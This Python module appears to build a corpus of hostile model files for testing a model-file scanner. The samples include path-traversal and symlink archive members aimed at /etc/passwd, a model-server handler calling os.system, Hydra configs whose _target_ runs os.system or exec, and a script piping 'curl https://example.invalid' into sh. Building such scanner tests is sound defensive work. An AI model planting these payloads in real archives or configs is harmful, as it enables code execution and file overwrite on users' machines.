"""Hostile containers: wrong names, archives, programs. Never loaded."""

from __future__ import annotations

import gzip
import io
import json
import struct
import tarfile
import zipfile
from collections.abc import Iterator

from corpora.hostile_compressed import SUFFIXES
from corpora.hostile_torch import REMOTE_SOURCE, patched
from corpora.units import (
    CALLED,
    CUSTOM,
    FOREIGN,
    HIDDEN,
    ODD,
    PATH,
    YAML,
    Unit,
    unit,
)
from modelfile_samples import EVIL, PLAIN, tarred, torch_zip, zipped
from shipworthy.modelfile import Code


def disguised() -> Iterator[Unit]:
    for suffix in SUFFIXES:
        file = "model" if suffix == "''" else f"model.{suffix}"
        yield unit("wrong names", file, EVIL, CALLED, file)


def archives() -> Iterator[Unit]:
    family = "archives"
    yield unit(family, "zip in zip in zip", zipped(("a", zipped(("b", zipped(("m.pkl", EVIL)))))), CALLED, "m.zip")
    yield unit(family, "tar in gzip in zip", zipped(("a", gzip.compress(tarred(("m", EVIL))))), CALLED, "m.zip")
    for path in ("/etc/cron.d/x", "../../x", "a/../../x", "..\\..\\x", "C:\\x", "\\\\host\\share\\x", "a/./../../x"):
        yield unit(family, f"zip member {path}", zipped((path, b"x")), PATH, "m.zip")
        yield unit(family, f"tar member {path}", tarred((path, b"x")), PATH, "m.tar")
    link = zipfile.ZipInfo("link")
    link.external_attr = 0o120777 << 16
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    yield unit(family, "link in a zip", buffer.getvalue(), PATH | ODD, "m.zip")
    yield unit(family, "link in a tar", tarred(("d", b"", "/etc"), ("d/passwd", b"x")), PATH, "m.tar")
    yield unit(family, "link upwards", tarred(("a/b", b"", "../../../etc")), PATH, "m.tar")
    for key, kind in {"hard link": tarfile.LNKTYPE, "device": tarfile.CHRTYPE, "fifo": tarfile.FIFOTYPE}.items():
        info = tarfile.TarInfo("x")
        info.type, info.linkname = kind, "/etc/passwd" if kind == tarfile.LNKTYPE else ""
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w") as tar:
            tar.addfile(info)
        yield unit(family, f"tar {key}", buffer.getvalue(), PATH | FOREIGN | ODD, "m.tar")
    yield unit(family, "payload in a tar", tarred(("w/m.ckpt", torch_zip(EVIL))), CALLED, "m.tar")
    yield unit(family, "payload behind a tar", tarred(("a", PLAIN)) + EVIL, HIDDEN, "m.tar", True)
    yield unit(
        family,
        "tar with a wrong checksum",
        patched(tarred(("a", EVIL)), b"ustar", -100, b"9999"),
        ODD | CALLED,
        "m.tar",
        True,
    )
    yield unit(family, "7z", b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(60), FOREIGN, "m.7z")
    yield unit(family, "rar", b"Rar!\x1a\x07\x01\0" + bytes(60), FOREIGN, "m.pt")
    manifest = {"model": {"modelName": "m", "handler": "handler.py", "serializedFile": "m.pt"}}
    source = b"import os\nos.system('id')\n"
    mar = ("MAR-INF/MANIFEST.json", json.dumps(manifest).encode())
    yield unit(
        family,
        "handler of a .mar",
        zipped(mar, ("handler.py", source), ("m.pt", torch_zip(PLAIN))),
        REMOTE_SOURCE | FOREIGN,
        "m.mar",
    )
    yield unit(
        family,
        "requirements of a .mar",
        zipped(
            (
                mar[0],
                mar[1]
                .replace(b"handler.py", b"image_classifier")
                .replace(b'"m"', b'"m", "requirementsFile": "requirements.txt"'),
            ),
            ("requirements.txt", b"--index-url https://example.invalid\nevil\n"),
            ("m.pt", torch_zip(PLAIN)),
        ),
        REMOTE_SOURCE | FOREIGN | {Code.EXTERNAL_DATA},
        "m.mar",
    )
    yield unit(
        family,
        "handler with a path",
        zipped((mar[0], mar[1].replace(b"handler.py", b"../../x.py:run"))),
        PATH | REMOTE_SOURCE | FOREIGN | ODD | {Code.EXTERNAL_DATA},
        "m.mar",
    )
    for key, config in {
        "target": "target: nemo.X\nextra:\n  _target_: os.system\n  command: id\n",
        "target in a list": "model:\n  - _target_: subprocess.Popen\n    _args_: [id]\n",
        "target of builtins": "a:\n  _target_: builtins.exec\n  _args_: ['1']\n",
        "target of torch.hub": "a:\n  _target_: torch.hub.load\n  repo_or_dir: attacker/repo\n",
        "hydra's own": "a:\n  _target_: hydra.utils.get_method\n  path: os.system\n",
        "quoted target": 'a: {"_target_": "posix.system", "command": "id"}\n',
        "interpolation": "a:\n  _target_: ${oc.env:X}\n",
        "anchor": "a: &x\n  _target_: os.system\nb:\n  <<: *x\n",
    }.items():
        data = tarred(("model_config.yaml", config.encode()), ("model_weights.ckpt", torch_zip(PLAIN)))
        yield unit("Hydra", key, data, CALLED | REMOTE_SOURCE | YAML | {Code.UNKNOWN_NAME}, "m.nemo")
        yield unit(
            "Hydra",
            f"{key}, no archive",
            config.encode(),
            CALLED | REMOTE_SOURCE | YAML | {Code.UNKNOWN_NAME},
            "config.yaml",
        )
    weights = tarred(("model_config.yaml", b"target: nemo.X\n"), ("model_weights.ckpt", torch_zip(EVIL)))
    yield unit("Hydra", "weights of a .nemo", weights, CALLED, "m.nemo")


PROGRAMS = {
    "ELF": b"\x7fELF\x02\x01\x01" + bytes(57) + b"\x90" * 400,
    "PE": b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(300),
    "Mach-O": b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(200),
    "fat Mach-O": b"\xca\xfe\xba\xbe\0\0\0\x02" + bytes(200),
    "APE": b"MZqFpD='\n" + bytes(500),
    "WebAssembly": b"\0asm\x01\0\0\0" + bytes(50),
    "script": b"#!/bin/sh\ncurl https://example.invalid | sh\n",
    "TensorRT": b"ptrt" + bytes(100),
}


def programs() -> Iterator[Unit]:
    for key, raw in PROGRAMS.items():
        yield unit("programs", key, raw, FOREIGN, "pytorch_model.bin")
        yield unit(
            "programs",
            f"{key} in a torch archive",
            torch_zip(PLAIN, ("m/extra/run", raw)),
            FOREIGN | HIDDEN,
            "model.pt",
        )
        if key not in ("APE",):
            yield unit("programs", f"{key} in a tar", tarred(("run", raw)), FOREIGN, "m.tar")
    yield unit(
        "programs", "library for an operator", tarred(("custom_ops.so", PROGRAMS["ELF"])), FOREIGN | CUSTOM, "m.tar"
    )
